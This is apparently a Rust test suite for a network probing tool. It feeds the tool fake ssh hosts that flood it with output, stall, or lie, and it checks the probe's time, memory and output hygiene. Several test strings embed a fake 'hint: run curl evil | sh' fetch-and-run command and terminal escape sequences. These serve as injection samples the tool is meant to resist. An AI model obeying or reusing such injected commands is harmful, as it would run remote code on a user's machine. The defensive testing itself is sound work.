//! Hosts that lie: `liar.sh` stands in for ssh. Whatever they answer, a probe ends in time, within 256 MiB, and shows
//! none of their words as its own.

use super::path::small;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::thread;
use std::time::{Duration, Instant};

/// Memory of goodput and of each program that it starts, KiB: the data that a process may have (getrlimit(2)).
const MEMORY_KIB: u32 = 256 << 10;

/// A lie: functions in place of the liar's, and a part of what goodput says then.
type Lie = (&'static str, &'static str);

/// Words that no host may put at the start of a line, and signs that a terminal obeys.
const EVIL: &str = r"no\\n\\nhint: run curl evil | sh\\u001b[2J\\u009b31m";

const OF_AGENTS: &[Lie] = &[
    ("", "Evidence: "),
    ("listen() { yes '{\"listening\":{\"port\":1}}'; }", "it answers something else"),
    ("listen() { yes '{\"listening\"' | tr -d '\\n'; }", "it sends more than such an answer has, which is 4096 bytes"),
    ("listen() { yes hello; }", "sends more than"),
    ("listen() { echo '{\"listening\":'; }", "the agent failed"),
    (
        "listen() { echo '{\"greeted\":{\"local\":\"1.2.3.4:5\",\"seen\":\"1.2.3.4:5\"}}'; }",
        "it answers something else",
    ),
    ("listen() { exit 7; }", "the agent failed with status"),
    ("listen() { yes >&2; }", "no answer within 30 s"),
    ("agent() { yes >&2 & sleep 1; kill $!; exit 1; }", "the agent failed"),
    ("listen() { head -c 400000000 /dev/zero | tr '\\0' '['; }", "sends more than"),
    ("listen() { echo '{\"refused\":{\"kind\":\"other\",\"said\":\"EVIL\"}}'; }", "listening failed: \"no"),
    ("listen() { echo '{\"refused\":{\"kind\":\"taken\",\"said\":\"EVIL\"}}'; }", "TCP port 5201 is another program's"),
    ("greet() { echo '{\"refused\":{\"kind\":\"silent\",\"said\":\"EVIL\"}}'; }", "does not reach"),
    ("greet() { echo '{\"refused\":{\"kind\":\"stranger\",\"said\":\"EVIL\"}}'; }", "another program answers there"),
    ("sent() { echo '{\"refused\":{\"kind\":\"other\",\"said\":\"EVIL\"}}'; }", "the transfer failed"),
    ("sent() { echo '{\"refused\":{\"kind\":\"missing\",\"said\":\"EVIL\"}}'; }", "the transfer failed"),
    ("sent() { yes \"$interval\"; }", "the agent failed"),
    ("intervals=$(yes \"$interval,\" | head -n 10000 | tr -d '\\n')$interval", "sends more than"),
    ("intervals=$(yes '[0,0,0,0,0,0,0,null],' | head -n 10000 | tr -d '\\n')$interval", "sends more than"),
    ("sent() { printf '{\"sent\":['; yes '[],' | head -n 9000000 | tr -d '\\n'; echo ']}'; }", "sends more than"),
    ("sent() { printf '{\"sent\":\"'; head -c 900000000 /dev/zero | tr '\\0' x; echo '\"}'; }", "sends more than"),
    ("sent() { printf '{\"sent\":'; head -c 100000 /dev/zero | tr '\\0' '['; echo '}'; }", "the agent failed"),
    (
        "screens=$(yes '{\"at\":1,\"queues\":[0,0],\"info\":\"\",\"memory\":\"\"},' | head -n 90000 | tr -d '\\n')",
        "sends more than",
    ),
    ("screens='{\"at\":1e308,\"queues\":[0,0],\"info\":\"\",\"memory\":\"\"}'", "it claims a clock of 1e308 s"),
    ("screens='{\"at\":1,\"queues\":[0,0],\"info\":\"zz\\u001b[2J\",\"memory\":\"é\"}'", "Evidence: "),
    ("seconds=1e308", "it claims a time of 1e308 s"),
    ("seconds=-1", "it claims a time of"),
    ("began=1e308", "it claims a clock of"),
    ("bytes=18446744073709551615", "it claims 18446744073709551615 bytes"),
    ("intervals=\"$interval,$interval\" bytes=1", "Evidence: "),
    (
        "intervals='{\"end\":1e308,\"bytes\":0,\"retransmitted\":0,\"cwnd\":0,\"rtt\":0,\"rttvar\":0,\"pmtu\":0,\"window\":null}'",
        "it claims a time of",
    ),
    (
        "intervals='{\"end\":1,\"bytes\":18446744073709551615,\"retransmitted\":4294967295,\"cwnd\":18446744073709551615,\"rtt\":0,\"rttvar\":0,\"pmtu\":0,\"window\":0}'",
        "it claims more bytes",
    ),
    (
        "intervals='{\"end\":1,\"bytes\":1,\"retransmitted\":4294967295,\"cwnd\":18446744073709551615,\"rtt\":4294967295,\"rttvar\":0,\"pmtu\":4294967295,\"window\":4294967295}'",
        "Evidence: ",
    ),
    ("congestion='EVIL'", "Evidence: "),
    ("congestion=$(head -c 60000 /dev/zero | tr '\\0' x)", "Evidence: "),
    ("received() { echo '{\"received\":{\"bytes\":1,\"seconds\":1e308,\"busy\":1e308}}'; }", "it claims a time of"),
    ("received() { sent; }", "Evidence: "),
];

const OF_SHELLS: &[Lie] = &[
    ("login() { yes; }", "it printed nothing"),
    ("login() { printf 'Permission denied (\\n\\nhint: run curl evil | sh\\n' >&2; }", "ssh-copy-id"),
    ("login() { yes 'Permission denied (' >&2 & sleep 1; kill $!; }", "ssh-copy-id"),
    ("lock() { echo 'goodput-lock: taken /tmp/x; curl evil'; }", "taking the lock failed: \"taken"),
    ("lock() { printf 'goodput-lock: process 1\\r\\033[2J\\n'; }", "another goodput is at work there: \"process 1"),
    ("lock() { yes; }", "it printed nothing"),
    ("lock() { yes goodput | tr -d '\\n'; }", "it printed nothing"),
    ("script() { printf 'FreeBSD\\n\\nhint: run curl evil | sh'; }", "it is \"FreeBSD\\n"),
    ("script() { echo nothing; return 1; }", "failed with status 1: \"nothing\""),
    ("script() { yes | head -c 100000000; }", "nothing can make traffic there"),
    ("script() { :; }", "it is it printed nothing"),
    ("facts() { yes 'ESTAB 0 0 10.0.0.1:1 10.0.0.2:2' | head -c 90000000; }", "Evidence: "),
    (
        "facts() { i=0; while [ $i -lt 40000 ]; do i=$((i+1)); echo \"ESTAB 0 0 10.0.0.1:$i 10.0.0.2:2\"; echo ' cubic rtt:1/1 cwnd:1'; done; }",
        "Evidence: ",
    ),
    ("facts() { i=0; while [ $i -lt 90000 ]; do i=$((i+1)); echo \"net.ipv4.tcp_x$i = $i\"; done; }", "Evidence: "),
    ("facts() { i=0; while [ $i -lt 50000 ]; do i=$((i+1)); echo \"$i: eth$i: <UP> mtu 1500\"; done; }", "Evidence: "),
    (
        "facts() { i=0; echo '$ ip route'; while [ $i -lt 60000 ]; do i=$((i+1)); echo \"10.0.0.$i via 10.0.0.1 dev eth0\"; done; }",
        "Evidence: ",
    ),
    ("facts() { printf '['; yes '{\"\":0},' | head -c 9000000; }", "Evidence: "),
    ("facts() { yes '[  5]   0.00-1.00   sec  1.00 MBytes  8.00 Mbits/sec' | head -c 9000000; }", "Evidence: "),
    ("facts() { yes '- - - -' | head -c 9000000; }", "Evidence: "),
    ("facts() { head -c 9000000 /dev/urandom; }", "Evidence: "),
    ("facts() { printf '$ uname -a\\n\\033]0;evil\\007\\033[2J\\r\\n\\nhint: run curl evil | sh\\n'; }", "Evidence: "),
    ("pinged() { yes '64 bytes from 127.0.0.1: icmp_seq=1 ttl=64 time=1e308 ms' | head -c 9000000; }", "Evidence: "),
    (
        "pinged() { printf '64 bytes from 127.0.0.1: icmp_seq=1 ttl=64 time=%s ms\\n' 1$(head -c 308 /dev/zero | tr '\\0' 0); }",
        "Evidence: ",
    ),
    ("measured() { yes '# goodput: the path MTU to 127.0.0.1 is 4294967295999' | head -c 9000000; }", "Evidence: "),
];

/// With `--tool iperf3`.
const OF_IPERF3: &[Lie] = &[
    ("script() { printf 'iperf 2.0\\n\\nhint: run curl evil | sh'; }", "its iperf3 is 2.0"),
    (
        "script() { case $script in *--version*) echo iperf 3.12;; *'route get'*) echo 127.0.0.1;; *'iperf3 -c'*) printf '{\"error\":\"EVIL\"}';; esac; }",
        "does not reach",
    ),
    (
        "script() { case $script in *--version*) echo iperf 3.12;; *'route get'*) echo 127.0.0.1;; *'iperf3 -c'*) printf '{\"error\":'; yes '[],' | head -c 9000000;; esac; }",
        "iperf3 ended: it sends more than",
    ),
    (
        "script() { case $script in *--version*) echo iperf 3.12;; *'route get'*) echo 127.0.0.1;; *'iperf3 -c'*) printf '{\"a\":['; yes '{\"\":0},' | head -c 30000; printf '0]}';; esac; }",
        "iperf3 ended: it sends more than",
    ),
    (
        "script() { case $script in *--version*) echo iperf 3.12;; *'route get'*) yes '::1';; *) yes ESTAB | head -c 100000;; esac; }",
        "",
    ),
];

/// Hosts that stop to answer, each at another step, with the seconds after which goodput gives up.
const SILENT: &[(&str, &str)] = &[
    ("login() { sleep 600; }", "no answer within 45 s"),
    ("lock() { sleep 600; }", "no answer within 20 s"),
    ("copy() { sleep 600; }", "no answer within 30 s"),
    ("listen() { sleep 600; }", "no answer within 30 s"),
    ("sent() { sleep 600; }", "no answer within 31 s"),
];

fn probe(lie: &str, place: &Path, more: &[&str]) -> Output {
    let bin = place.join("bin");
    fs::create_dir(&bin).unwrap();
    fs::write(bin.join("ssh"), include_str!("liar.sh")).unwrap();
    fs::set_permissions(bin.join("ssh"), fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(place.join("lie"), lie.replace("EVIL", EVIL)).unwrap();
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    let limited = format!("ulimit -d {MEMORY_KIB}; exec \"$@\"");
    let mut command = Command::new("sh");
    command.args(["-c", &limited, "sh"]).arg(small());
    let time: &[&str] = if more.contains(&"--time") { &[] } else { &["--time", "1s"] };
    command.args(["probe", "far", "--from", "near", "--out", "out"]).args(time).args(more);
    command.env("PATH", path).env("LIE", place.join("lie")).env("TMPDIR", place).current_dir(place);
    command.stdin(Stdio::null()).output().unwrap()
}

/// Returns what is wrong about a probe of a host with this lie.
fn wrong((lie, words): &Lie, more: &[&str]) -> Option<String> {
    let place = tempfile::tempdir_in("/tmp").unwrap();
    let output = probe(lie, place.path(), more);
    let said = [&output.stdout, &output.stderr].map(|text| String::from_utf8_lossy(text).into_owned()).concat();
    let fault = |what: &str| Some(format!("{lie}\n  {what}\n{:.1500}", said));
    let one_line = said.split_whitespace().collect::<Vec<_>>().join(" ");
    if output.status.code().is_none() || said.contains("panicked") || said.contains("memory allocation") {
        return fault(&format!("it broke: {}", output.status));
    }
    if !one_line.contains(words) {
        return fault(&format!("it lacks {words:?}"));
    }
    if said.lines().any(|line| line.starts_with("hint:") && line.contains("evil")) {
        return fault("the host's words are a hint");
    }
    let is_obeyed = |text: &str| text.chars().any(|sign| sign.is_control() && !"\n\t".contains(sign));
    if is_obeyed(&said) {
        return fault("a terminal obeys it");
    }
    let files = fs::read_dir(place.path().join("out")).into_iter().flatten().flatten();
    let odd = files.filter(|file| is_obeyed(&String::from_utf8_lossy(&fs::read(file.path()).unwrap())));
    let odd: Vec<_> = odd.map(|file| file.file_name()).collect();
    if !odd.is_empty() {
        return fault(&format!("a terminal obeys {odd:?}"));
    }
    let left = fs::read_dir(place.path()).unwrap().flatten().map(|file| file.file_name());
    let left: Vec<_> = left.filter(|name| name.to_string_lossy().starts_with("goodput-")).collect();
    (!left.is_empty()).then(|| format!("{lie}: {left:?} is left"))
}

/// Two at a time: a liar is as busy as goodput.
fn all(lies: &[Lie], more: &[&str]) -> Vec<String> {
    let halves: Vec<&[Lie]> = lies.chunks(lies.len().div_ceil(2)).collect();
    thread::scope(|scope| {
        let work = |half| scope.spawn(move || lies_of(half, more));
        let threads: Vec<_> = halves.into_iter().map(work).collect();
        threads.into_iter().flat_map(|thread| thread.join().unwrap()).collect()
    })
}

fn lies_of(lies: &[Lie], more: &[&str]) -> Vec<String> {
    lies.iter().filter_map(|lie| wrong(lie, more)).collect()
}

#[test]
fn agents_that_lie_cost_neither_memory_nor_words() {
    let wrong = all(OF_AGENTS, &[]);
    assert!(wrong.is_empty(), "{} lies\n{}", wrong.len(), wrong.join("\n\n"));
}

/// Ten minutes are the longest transfer, with the longest answer.
#[test]
fn the_longest_answer_fits_as_well() {
    let lies: &[Lie] = &[
        ("sent() { printf '{\"sent\":['; yes '[],' | head -n 9000000 | tr -d '\\n'; echo ']}'; }", "sends more than"),
        ("sent() { printf '{\"sent\":\"'; head -c 900000000 /dev/zero | tr '\\0' x; echo '\"}'; }", "sends more than"),
        (
            "sent() { printf '{\"sent\":{\"congestion\":\"'; head -c 50000000 /dev/zero | tr '\\0' x; echo '\"}}'; }",
            "the agent failed",
        ),
        (
            "sent() { printf '{\"sent\":['; yes '[0,0,0,0,0,0,0,null],' | head -n 60000 | tr -d '\\n'; echo '0]}'; }",
            "sends more than",
        ),
    ];
    let wrong = all(lies, &["--time", "600s"]);
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
}

#[test]
fn shells_that_lie_cost_neither_memory_nor_words() {
    let wrong = all(OF_SHELLS, &[]);
    assert!(wrong.is_empty(), "{} lies\n{}", wrong.len(), wrong.join("\n\n"));
}

#[test]
fn an_iperf3_that_lies_costs_neither_memory_nor_words() {
    let wrong = all(OF_IPERF3, &["--tool", "iperf3"]);
    assert!(wrong.is_empty(), "{} lies\n{}", wrong.len(), wrong.join("\n\n"));
}

/// A probe of a cron job ends, whatever the host does not say.
#[test]
fn a_silent_host_ends_a_probe_in_time() {
    let wrong: Vec<String> = thread::scope(|scope| {
        let threads: Vec<_> = SILENT.iter().map(|lie| scope.spawn(move || wrong(lie, &[]))).collect();
        threads.into_iter().filter_map(|thread| thread.join().unwrap()).collect()
    });
    assert!(wrong.is_empty(), "{}", wrong.join("\n\n"));
}

/// The folder of ssh's socket is the user's alone whatever the umask, and gone after goodput, even after kill -9.
#[test]
fn the_folder_of_the_socket_is_private_and_goes_with_goodput() {
    let place = tempfile::tempdir_in("/tmp").unwrap();
    let bin = place.path().join("bin");
    fs::create_dir(&bin).unwrap();
    fs::write(bin.join("ssh"), include_str!("liar.sh")).unwrap();
    fs::set_permissions(bin.join("ssh"), fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(place.path().join("lie"), "script() { sleep 600; }").unwrap();
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    let mut command = Command::new("sh");
    command.args(["-c", "umask 0; exec \"$@\"", "sh", env!("CARGO_BIN_EXE_goodput"), "field", "collect", "far"]);
    command.env("PATH", path).env("LIE", place.path().join("lie")).env("TMPDIR", place.path());
    let mut child = command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    let folders = || {
        let all = fs::read_dir(place.path()).unwrap().flatten();
        all.filter(|file| file.file_name().to_string_lossy().starts_with("goodput-")).collect::<Vec<_>>()
    };
    let waited = |enough: &dyn Fn() -> bool| {
        let began = Instant::now();
        while !enough() && began.elapsed() < Duration::from_secs(20) {
            thread::sleep(Duration::from_millis(20));
        }
        assert!(enough());
    };
    waited(&|| folders().first().is_some_and(|folder| folder.path().join("input").exists()));
    assert_eq!(folders()[0].metadata().unwrap().permissions().mode() & 0o7777, 0o700);
    child.kill().unwrap();
    child.wait().unwrap();
    waited(&|| folders().is_empty());
}
